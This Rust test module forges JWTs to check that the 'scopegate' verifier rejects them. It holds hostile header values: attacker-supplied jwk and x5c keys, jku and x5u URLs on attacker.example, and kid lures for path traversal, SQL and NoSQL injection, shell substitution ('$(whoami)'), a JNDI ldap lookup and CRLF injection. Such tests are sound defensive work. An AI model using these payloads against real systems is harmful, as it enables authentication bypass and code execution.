//! The token brings its own key, or names one in a way that something would believe.

use aws_lc_rs::encoding::{AsDer, PublicKeyX509Der};
use aws_lc_rs::hmac::HMAC_SHA256;
use aws_lc_rs::rsa::KeySize;
use aws_lc_rs::signature::{
    ECDSA_P256_SHA256_FIXED_SIGNING, Ed25519KeyPair, KeyPair, RSA_PKCS1_SHA256, RsaKeyPair,
};
use scopegate::{Algorithm, TokenError, Verifier};

use crate::attacks::attack::Attack;
use crate::attacks::forge::{by_secret, claims, der, encode, encode_standard, testdata};
use crate::attacks::issuer::{Issuer, Key};

pub(crate) fn attacks() -> Vec<Attack> {
    [keys(), secrets(), names(), names_of_no_type()].concat()
}

/// What an attacker signs with, and its public half as a JWK and in DER.
struct Forger {
    issuer: Issuer,
    key: Key,
    jwk: String,
    der: Vec<u8>,
}

fn forgers() -> [Forger; 3] {
    let rsa = RsaKeyPair::generate(KeySize::Rsa2048).unwrap();
    let public = rsa.public_key();
    let part = |number: &[u8]| encode(number.strip_prefix(&[0]).unwrap_or(number));
    let (n, e) = (public.modulus(), public.exponent());
    let (n, e) = (
        part(n.big_endian_without_leading_zero()),
        part(e.big_endian_without_leading_zero()),
    );
    let rsa_der = AsDer::<PublicKeyX509Der<'_>>::as_der(public).unwrap();
    let ed = Ed25519KeyPair::generate().unwrap();
    let ed_der = AsDer::<PublicKeyX509Der<'_>>::as_der(ed.public_key()).unwrap();
    [
        Forger {
            issuer: Issuer::of(Algorithm::RS256),
            jwk: format!(r#"{{"kty":"RSA","kid":"k","n":"{n}","e":"{e}"}}"#),
            der: rsa_der.as_ref().to_vec(),
            key: Key::Rsa(Box::new(rsa), &RSA_PKCS1_SHA256),
        },
        Forger {
            issuer: Issuer::of(Algorithm::ES256),
            key: Key::ec(
                testdata!("p256_other.private.pem"),
                &ECDSA_P256_SHA256_FIXED_SIGNING,
            ),
            jwk: testdata!("p256_other.jwk.json").trim().to_owned(),
            der: der(testdata!("p256.public.pem")),
        },
        Forger {
            issuer: Issuer::of(Algorithm::EdDSA),
            jwk: format!(
                r#"{{"kty":"OKP","crv":"Ed25519","x":"{}"}}"#,
                encode(ed.public_key())
            ),
            der: ed_der.as_ref().to_vec(),
            key: Key::Ed(ed),
        },
    ]
}

fn keys() -> Vec<Attack> {
    const JWK: &str = "CVE-2018-0114, CVE-2026-27962";
    const URL: &str = "PortSwigger, JWT authentication bypass via jku; RFC 8725 section 3.10";
    const CERTIFICATE: &str = "RFC 7515 section 4.1.6, RFC 8725 section 3.10";
    let mut attacks = Vec::new();
    for Forger {
        issuer,
        key,
        jwk,
        der,
    } in forgers()
    {
        let x5c = encode_standard(&der);
        for (name, source, member) in [
            ("jwk", JWK, format!(r#""jwk":{jwk}"#)),
            ("jwk and kid", JWK, format!(r#""jwk":{jwk},"kid":"k""#)),
            ("jwks", JWK, format!(r#""jwks":{{"keys":[{jwk}]}}"#)),
            ("x5c", CERTIFICATE, format!(r#""x5c":["{x5c}"]"#)),
            (
                "x5c and x5t",
                CERTIFICATE,
                format!(r#""x5c":["{x5c}"],"x5t":"AA","x5t#S256":"AA""#),
            ),
            (
                "all",
                CERTIFICATE,
                format!(r#""jwk":{jwk},"x5c":["{x5c}"],"jku":"https://a.example""#),
            ),
            (
                "epk",
                "RFC 7518 section 4.6",
                format!(r#""epk":{jwk},"apu":"AA""#),
            ),
            (
                "jku",
                URL,
                r#""jku":"https://attacker.example/jwks.json""#.to_owned(),
            ),
            (
                "jku of a user",
                URL,
                r#""jku":"https://issuer.example@attacker.example/""#.to_owned(),
            ),
            (
                "jku of this machine",
                URL,
                r#""jku":"http://127.0.0.1:1/""#.to_owned(),
            ),
            (
                "jku of a file",
                URL,
                r#""jku":"file:///dev/null""#.to_owned(),
            ),
            (
                "x5u",
                URL,
                r#""x5u":"https://attacker.example/cert.pem""#.to_owned(),
            ),
            (
                "x5u of data",
                URL,
                r#""x5u":"data:application/x-pem-file;base64,AA""#.to_owned(),
            ),
        ] {
            let header = issuer.header(&format!(",{member}"));
            let forged = key.token(&header, claims(""));
            let name = format!("signed by the key in {name}");
            let control = issuer.key.token(&header, claims(""));
            attacks.push(
                issuer
                    .attack(&name, source, forged, TokenError::Signature)
                    .beside(control),
            );
        }
    }
    attacks
}

/// A secret in the token.
fn secrets() -> Vec<Attack> {
    let issuer = Issuer::of(Algorithm::HS256);
    let injected = b"a secret of the attacker, 32 bytes or more";
    let k = encode(injected);
    let jwk = format!(r#"{{"kty":"oct","alg":"HS256","k":"{k}"}}"#);
    [
        ("oct key", format!(r#"{{"alg":"HS256","jwk":{jwk}}}"#)),
        (
            "oct key before alg",
            format!(r#"{{"jwk":{jwk},"alg":"HS256"}}"#),
        ),
        ("bare k", format!(r#"{{"alg":"HS256","k":"{k}"}}"#)),
        (
            "empty oct key",
            r#"{"alg":"HS256","jwk":{"kty":"oct","k":""}}"#.to_owned(),
        ),
    ]
    .map(|(name, header)| {
        let secret: &[u8] = if name == "empty oct key" {
            b""
        } else {
            injected
        };
        let forged = by_secret(HMAC_SHA256, secret, &header, claims(""));
        let control = issuer.key.token(&header, claims(""));
        issuer
            .attack(name, "CVE-2018-0114", forged, TokenError::Signature)
            .beside(control)
    })
    .to_vec()
}

/// `kid` values that reach a file, a database, a shell or a server, and the secret that would come of it.
fn lures() -> Vec<(String, &'static str, &'static [u8])> {
    const PATH: &str = "PortSwigger, JWT authentication bypass via kid header path traversal";
    const SQL: &str = "jwt_tool, kid injection";
    let mut lures: Vec<(String, &str, &[u8])> = [
        ("../../../../../../dev/null", PATH, &b""[..]),
        ("..\\\\..\\\\..\\\\NUL", PATH, b""),
        ("..%2f..%2f..%2fdev%2fnull", PATH, b""),
        ("....//....//dev/null", PATH, b""),
        ("/dev/null", PATH, b"\0"),
        ("file:///dev/null", PATH, b""),
        ("/proc/sys/kernel/randomize_va_space", PATH, b"2\n"),
        ("../../../../etc/hostname\\u0000.pem", PATH, b""),
        ("k\\u0000", PATH, b"secret"),
        ("x' UNION SELECT 'secret';-- -", SQL, b"secret"),
        ("' OR 1=1 --", SQL, b"secret"),
        ("1; DROP TABLE keys", SQL, b"secret"),
        ("{\\\"$ne\\\":null}", "OWASP, NoSQL injection", b"secret"),
        ("k|whoami", "jwt_tool, kid injection", b"root\n"),
        ("$(whoami)", "jwt_tool, kid injection", b"root\n"),
        ("`id`", "jwt_tool, kid injection", b""),
        (
            "http://attacker.example/key",
            "RFC 8725 section 3.10",
            b"secret",
        ),
        (
            "ldap://attacker.example/k",
            "RFC 8725 section 3.10",
            b"secret",
        ),
        (
            "${jndi:ldap://attacker.example/k}",
            "CVE-2021-44228",
            b"secret",
        ),
        (
            "__proto__",
            "CVE-2025-65945, prototype as a table of keys",
            b"",
        ),
        (
            "constructor",
            "CVE-2025-65945, prototype as a table of keys",
            b"",
        ),
        ("", "CVE-2019-20933", b""),
        (" ", "CVE-2019-20933", b""),
        ("0", "CVE-2019-20933", b"0"),
        ("ONE", "RFC 7515 section 4.1.4", b"secret"),
        ("one ", "RFC 7515 section 4.1.4", b"secret"),
        ("one\\u0000", "RFC 7515 section 4.1.4", b"secret"),
        ("on\\u0065\\u0301", "RFC 7515 section 4.1.4", b"secret"),
        ("\\u202eeno", "RFC 7515 section 4.1.4", b"secret"),
        ("\\r\\nX-Injected: 1", "CWE-113", b"secret"),
    ]
    .map(|(kid, source, secret)| (kid.to_owned(), source, secret))
    .to_vec();
    lures.push(("k".repeat(8000), "CWE-400", b"secret"));
    lures
}

fn names() -> Vec<Attack> {
    let hs256 = Issuer::of(Algorithm::HS256);
    let es256 = Issuer::of(Algorithm::ES256);
    let named = es256.jwk.replacen('{', r#"{"kid":"one","#, 1);
    let named = Verifier::builder().jwk(&named).build().unwrap();
    let honest = es256.key.token(es256.header(r#","kid":"one""#), claims(""));
    let mut attacks = Vec::new();
    for (kid, source, secret) in lures() {
        let member = format!(r#","kid":"{kid}""#);
        let name = format!("kid {:?}", &kid[..kid.len().min(50)]);

        let header = hs256.header(&member);
        let forged = by_secret(HMAC_SHA256, secret, &header, claims(""));
        let control = hs256.key.token(&header, claims(""));
        attacks.push(
            hs256
                .attack(&name, source, forged, TokenError::Signature)
                .beside(control),
        );

        let forged = by_secret(HMAC_SHA256, secret, &header, claims(""));
        let attack = es256.attack(
            &format!("{name} of a secret"),
            source,
            forged,
            TokenError::Algorithm,
        );
        attacks.push(attack.against(&named).beside(honest.clone()));

        // Even the right key does not help a name that is not its own.
        let token = es256.key.token(es256.header(&member), claims(""));
        let attack = es256.attack(&name, source, token, TokenError::UnknownKey);
        attacks.push(attack.against(&named).beside(honest.clone()));
    }
    attacks
}

fn names_of_no_type() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for issuer in [Algorithm::HS256, Algorithm::ES256].map(Issuer::of) {
        for kid in [
            "null",
            "1",
            "true",
            "[]",
            r#"["one"]"#,
            "{}",
            r#"{"$gt":""}"#,
        ] {
            let token = issuer
                .key
                .token(issuer.header(&format!(r#","kid":{kid}"#)), claims(""));
            let source = "RFC 7515 section 4.1.4";
            attacks.push(issuer.attack(
                &format!("kid as {kid}"),
                source,
                token,
                TokenError::Malformed,
            ));
        }
    }
    attacks
}
